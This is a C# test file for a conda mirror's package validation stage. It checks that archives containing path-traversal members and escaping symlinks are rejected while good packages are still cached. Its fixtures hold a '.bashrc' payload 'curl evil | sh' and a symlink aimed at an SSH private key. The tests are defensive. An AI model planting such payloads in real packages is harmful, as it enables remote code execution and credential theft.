using System.Diagnostics;
using CondaMirror.Core.Archives;
using CondaMirror.Core.Downloads;
using CondaMirror.Core.Errors;
using CondaMirror.Core.Records;
using CondaMirror.TestKit;
using CondaMirror.TestKit.Channels;
using Xunit;

namespace CondaMirror.Tests.Downloads;

/// <summary>
/// The member check runs beside the downloads (one worker per core, fed by the download slots): a batch of real
/// packages, written by the independent writer, goes through it with failures and cancellation in the middle.
/// </summary>
public class ValidationStageTests
{
    private static DownloadOptions Checked(DownloadFixture f, int maxParallel) => new()
    {
        CacheRoot = f.CacheRoot,
        RetryCount = 0,
        MaxParallel = maxParallel,
        AttemptTimeout = TimeSpan.FromSeconds(60),
        ProgressInterval = TimeSpan.FromMinutes(1),
        Validation = new PackageValidationOptions(),
    };

    private static DownloadRequest Request(DownloadFixture f, string path) => f.RequestFor(path, "noarch");

    private static List<DownloadRequest> GoodPackages(DownloadFixture f, int count, int payloadBytes) =>
        Enumerable.Range(0, count).Select(i => Request(f, ChannelBuilder.WritePackage(Path.Combine(f.ChannelDir, "noarch"),
            new PackageSpec($"good{i:D2}", "1.0", "0") { PayloadBytes = payloadBytes, Format = i % 3 == 2 ? ArchiveFormat.TarBz2 : ArchiveFormat.Conda }))).ToList();

    [SkippableTheory]
    [InlineData("evil-1.0-0.conda")]
    [InlineData("evil-1.0-0.tar.bz2")]
    public async Task A_hostile_package_in_the_middle_of_a_parallel_batch_fails_with_its_code_and_only_the_good_ones_are_cached(string evilName)
    {
        await using var f = new DownloadFixture();
        var good = GoodPackages(f, 12, 200_000);
        var evilPath = RawPackageWriter.Write(Path.Combine(f.ChannelDir, "noarch", evilName), RawPackageWriter.IndexJson("evil", "1.0", "0", "noarch"),
            [RawTarMember.File("site-packages/ok.py", "pass"), RawTarMember.File("../../../.bashrc", "curl evil | sh")]);
        var evil = Request(f, evilPath);
        var batch = good.Take(6).Append(evil).Concat(good.Skip(6)).ToArray();

        using var downloader = new PackageDownloader(Checked(f, maxParallel: 6), f.Log);
        var e = await HangGuard.Within(Assert.ThrowsAsync<CondaMirrorException>(() => downloader.DownloadAsync(batch, CancellationToken.None)));

        Assert.Equal(ErrorCodes.ArchiveUnsafeMemberPath, e.Code);
        Assert.Contains("noarch/" + evilName, e.File);
        Assert.False(downloader.Cache.TryGetVerified(evil, out _));
        // Every good package was checked and cached, byte for byte, beside the failing one.
        foreach (var r in good)
        {
            Assert.True(downloader.Cache.TryGetVerified(r, out var cached), $"{r.FileName} is not cached");
            Assert.Equal(File.ReadAllBytes(f.ChannelPathOf(r)), File.ReadAllBytes(cached));
        }
        Assert.Equal(good.Count, f.CachedFileCount());
        f.AssertCacheClean();
    }

    [SkippableFact]
    public async Task Two_hostile_packages_in_one_batch_are_both_reported_and_neither_is_cached()
    {
        await using var f = new DownloadFixture();
        var good = GoodPackages(f, 4, 50_000);
        var dotdot = Request(f, RawPackageWriter.Write(Path.Combine(f.ChannelDir, "noarch", "evil-1.0-0.tar.bz2"), RawPackageWriter.IndexJson("evil", "1.0", "0", "noarch"),
            [RawTarMember.File("../x", "x")]));
        var link = Request(f, RawPackageWriter.Write(Path.Combine(f.ChannelDir, "noarch", "link-1.0-0.conda"), RawPackageWriter.IndexJson("link", "1.0", "0", "noarch"),
            [RawTarMember.Symlink("etc/key", "/home/user/.ssh/id_rsa")]));

        using var downloader = new PackageDownloader(Checked(f, maxParallel: 3), f.Log);
        var e = await HangGuard.Within(Assert.ThrowsAsync<CondaMirrorException>(() =>
            downloader.DownloadAsync([good[0], dotdot, good[1], link, good[2], good[3]], CancellationToken.None)));

        Assert.Equal(ErrorCodes.DownloadsFailed, e.Code);
        Assert.Contains(ErrorCodes.ArchiveUnsafeMemberPath + ": ", e.Message);
        Assert.Contains(ErrorCodes.ArchiveLinkEscapes + ": ", e.Message);
        Assert.Contains("Of 6 packages, 4 were downloaded", e.Message);
        Assert.Equal(4, f.CachedFileCount());
        f.AssertCacheClean();
    }

    [SkippableFact]
    public async Task Cancelling_while_archives_are_being_checked_and_queued_throws_and_leaves_no_temp_file()
    {
        await using var f = new DownloadFixture();
        var good = GoodPackages(f, 16, 1_000_000);
        // One transfer that never ends keeps the run going until it is cancelled.
        var stalled = f.AddPackage("stalled-1.0-0.conda", 400_000);
        f.Server.Faults.Add("/noarch/stalled-1.0-0.conda", FaultKind.StallMidBody(100_000, TimeSpan.FromSeconds(60)));

        using var downloader = new PackageDownloader(Checked(f, maxParallel: 17), f.Log);
        using var cts = new CancellationTokenSource();
        var run = downloader.DownloadAsync([stalled, .. good], cts.Token);
        // Once one archive passed its check, the others are being checked, queued or waiting to be handed over.
        await WaitUntil(() => f.CachedFileCount() > 0);
        cts.Cancel();

        await HangGuard.Within(Assert.ThrowsAnyAsync<OperationCanceledException>(() => run));
        var partial = Path.Combine(f.CacheRoot, PackageCache.PartialFolder);
        Assert.Empty(Directory.GetFiles(partial));
        Assert.True(f.CachedFileCount() < good.Count + 1, "the stalled package cannot have been cached");
        f.AssertCacheClean();
    }

    private static async Task WaitUntil(Func<bool> condition)
    {
        var clock = Stopwatch.StartNew();
        while (!condition())
        {
            if (clock.Elapsed > TimeSpan.FromSeconds(30)) throw new TimeoutException("condition not reached");
            await Task.Delay(5);
        }
    }
}
